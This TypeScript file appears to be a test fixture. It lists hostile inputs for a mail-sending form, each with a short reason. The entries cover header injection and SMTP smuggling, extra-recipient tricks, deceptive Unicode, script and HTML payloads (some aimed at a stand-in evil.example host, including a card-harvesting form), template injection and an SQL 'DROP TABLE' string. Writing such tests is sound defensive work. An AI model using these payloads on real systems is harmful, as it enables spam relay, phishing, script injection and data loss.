const sum = '7919*7919';

/** Form input that tries to make a mail do more than carry it. */
export const hostileTexts: readonly { why: string; text: string }[] = [
  // Header injection, with all kinds of line ends.
  { why: 'a line end, and a header of its own', text: 'Ada\r\nBcc: eve@evil.example' },
  { why: 'a bare line feed, as Unix ends lines', text: 'Ada\nBcc: eve@evil.example' },
  {
    why: 'a bare carriage return, which some servers take for a line end',
    text: 'Ada\rBcc: eve@evil.example',
  },
  { why: 'an empty line, and another body', text: 'Ada\r\n\r\n<h1>Pay here instead</h1>' },
  { why: 'the line end of mainframes', text: 'Ada\u0085Bcc: eve@evil.example' },
  { why: "Unicode's line separator", text: 'Ada\u2028Bcc: eve@evil.example' },
  { why: "Unicode's paragraph separator", text: 'Ada\u2029Bcc: eve@evil.example' },
  { why: 'a line end as addresses escape it', text: 'Ada%0aBcc: eve@evil.example' },
  { why: 'both line ends as addresses escape them', text: 'Ada%0d%0aBcc: eve@evil.example' },
  { why: 'a line end as programs write it', text: 'Ada\\r\\nBcc: eve@evil.example' },
  { why: 'letters whose lower byte is a line end', text: 'Ada\u560d\u560aBcc: eve@evil.example' },
  { why: 'an encoded word with a line end in it', text: '=?utf-8?Q?Ada=0D=0ABcc:_eve@evil.example?=' },
  // A dot on its own line ends the body; SMTP commands would follow.
  { why: 'the end of the mail, and another mail', text: 'Ada\r\n.\r\nMAIL FROM:<eve@evil.example>\r\n' },
  {
    why: 'the end of the mail with bare line feeds (SMTP smuggling)',
    text: 'Ada\n.\nRCPT TO:<eve@evil.example>\n',
  },
  {
    why: 'the end of a part of the mail',
    text: 'Ada\r\n----_NmP-Part_1--\r\nContent-Type: text/html\r\n\r\n<b>x',
  },
  // Further recipients.
  { why: 'a list of recipients', text: 'ada@example.com, eve@evil.example' },
  { why: 'a list as Outlook writes it', text: 'ada@example.com; eve@evil.example' },
  { why: 'a group of recipients', text: 'Team: eve@evil.example, ada@example.com;' },
  { why: 'a name that brings its own address', text: 'Ada <eve@evil.example>' },
  { why: 'a quote that ends the name early', text: 'Ada" <eve@evil.example>, "' },
  { why: 'a backslash that takes the quote away', text: 'Ada\\' },
  { why: 'a quoted local part with a list in it', text: '"eve@evil.example, ada"@example.com' },
  { why: 'a relay that passes mail on by percent sign', text: 'eve%evil.example' },
  { why: 'a route through another server', text: '@evil.example:ada' },
  { why: 'an option of the command that names the recipient', text: 'ada@example.com> NOTIFY=SUCCESS' },
  // Misleading, invisible and executable text.
  { why: 'text that is set apart in its direction', text: '\u2066Ada\u2069' },
  { why: 'text that runs backwards', text: 'Ada \u202eelpmaxe.live@eve' },
  { why: 'nothing that could be seen', text: '\u200b\u200d\ufeff' },
  { why: 'a letter of another alphabet', text: '\u0430da' },
  { why: 'half a character', text: 'Ada \ud83d' },
  { why: 'the end of a text in C', text: 'Ada\0Bcc: eve@evil.example' },
  { why: 'a script', text: '<script>alert(1)</script>' },
  { why: 'a picture that runs a script', text: '<img src=x onerror=alert(1)>' },
  { why: 'a drawing that runs a script', text: '"><svg onload=alert(1)>' },
  { why: 'a page within the mail', text: "'><iframe src=https://evil.example></iframe>" },
  { why: 'a form that asks for a card', text: '<form action=https://evil.example><input name=card></form>' },
  {
    why: 'a page that leads elsewhere',
    text: '<meta http-equiv=refresh content="0;url=https://evil.example">',
  },
  {
    why: 'a block that only Outlook draws',
    text: '<!--[if mso]><v:rect href="https://evil.example"><![endif]-->',
  },
  { why: 'a section of another language', text: '<![CDATA[<script>alert(1)</script>]]>' },
  { why: 'the end of an attribute, and a link', text: '"><a href="https://evil.example">Pay here</a>' },
  { why: 'another attribute, by single quotes', text: "Ada' style='position:fixed' x='" },
  { why: 'the end of the table that holds the mail', text: '</td></tr></table><h1>Pay here</h1>' },
  { why: 'a comment that hides the rest', text: 'Ada <!--' },
  {
    why: 'what is escaped already, and must not be unescaped',
    text: '&lt;script&gt;alert(1)&lt;/script&gt;',
  },
  { why: 'a template of Handlebars', text: `{{${sum}}}{{constructor.constructor("x")()}}` },
  { why: 'a template of JavaScript', text: `\${${sum}}` },
  { why: 'a pattern that stands for what was replaced', text: "$& $1 $' $`" },
  { why: 'a statement for the database', text: "Ada'; DROP TABLE mail; --" },
  { why: 'ten kilobytes', text: 'x'.repeat(10_240) },
  { why: 'ten kilobytes that grow when they are escaped', text: '<'.repeat(10_240) },
];
